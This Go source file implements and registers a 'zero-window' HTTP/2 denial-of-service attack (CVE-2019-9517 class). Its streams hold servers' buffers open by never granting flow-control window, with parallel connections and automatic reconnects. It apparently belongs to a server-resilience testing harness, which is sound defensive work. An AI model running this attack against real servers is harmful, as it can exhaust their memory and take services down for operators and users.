package h2attack

import (
	"context"
	"fmt"
	"time"

	"golang.org/x/net/http2"
)

// ZeroWindowParams: zero-window is slowloris on flow control (the
// CVE-2019-9517 "internal data buffering" class). The client announces
// SETTINGS_INITIAL_WINDOW_SIZE 0 (or Window), opens streams with a real request (the
// Request's messages: a Join, so the server has things to send), answers
// PINGs so it looks alive, and never grants a byte of window: nothing the
// server writes can leave. A server that buffers what it cannot send
// grows without bound. A healthy server bounds what it holds per stream
// and ends such a stream (RESOURCE_EXHAUSTED for a slow consumer) or the
// connection.
type ZeroWindowParams struct {
	// Connections attacking in parallel. Default 1.
	Connections int `yaml:"connections"`
	// Reconnect dials again (after 50ms) when the server closes a
	// connection before the time bound, at most 1000 times per
	// connection. Default true.
	Reconnect bool `yaml:"reconnect"`
	// Streams opened per connection (all held until the end). Default 50.
	Streams int `yaml:"streams"`
	// Window is the SETTINGS_INITIAL_WINDOW_SIZE announced: 0 lets nothing
	// through; a small window lets that much through per stream, then
	// nothing more (never a WINDOW_UPDATE). Default 0.
	Window uint32 `yaml:"window"`
	// Duration bounds the attack. Default 30s.
	Duration time.Duration `yaml:"duration"`
	// Rate is streams opened per second per connection; 0 = at once. In a
	// scenario it is the role's rate. Default 100.
	Rate float64 `yaml:"-"`
}

// DefaultZeroWindow returns zero-window's defaults.
func DefaultZeroWindow() ZeroWindowParams {
	return ZeroWindowParams{Connections: 1, Reconnect: true, Streams: 50, Duration: 30 * time.Second, Rate: 100}
}

func (p *ZeroWindowParams) limits() limits {
	return limits{connections: p.Connections, count: p.Streams, rate: p.Rate, duration: p.Duration}
}

// Validate implements Params.
func (p *ZeroWindowParams) Validate() error {
	if p.Window > 1<<31-1 {
		return fmt.Errorf("zero-window: window must be within [0, 2147483647], got %d", p.Window)
	}
	return p.limits().validate("zero-window", "streams")
}

// SetRate implements Params.
func (p *ZeroWindowParams) SetRate(r float64) { p.Rate = r }

// Pace implements Params.
func (p *ZeroWindowParams) Pace() float64 { return p.Rate }

// Run implements Params.
func (p *ZeroWindowParams) Run(ctx context.Context, t Target, req Request, report Report) (Result, error) {
	if err := p.Validate(); err != nil {
		return Result{Attack: "zero-window", Target: t.Addr}, fmt.Errorf("h2attack: %w", err)
	}
	return run(ctx, t, req, spec{noReconnect: !p.Reconnect, name: "zero-window", lim: p.limits(), zeroWindow: true,
		settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: p.Window}},
		describe: fmt.Sprintf("SETTINGS_INITIAL_WINDOW_SIZE %d, %d request streams per connection, no WINDOW_UPDATE ever", p.Window, p.Streams),
		loop: func(ctx context.Context, c *conn) (string, error) {
			if _, err := c.pace(ctx, p.Streams, p.Rate, func(int) error {
				_, err := c.openStream(true)
				return err
			}); err != nil {
				return "", err
			}
			return c.holdOpen(ctx)
		}}, report)
}

func init() {
	register(Attack{Name: "zero-window", Summary: "streams that never grant flow-control window (slowloris on flow control)",
		Params: func() Params { p := DefaultZeroWindow(); return &p }})
}
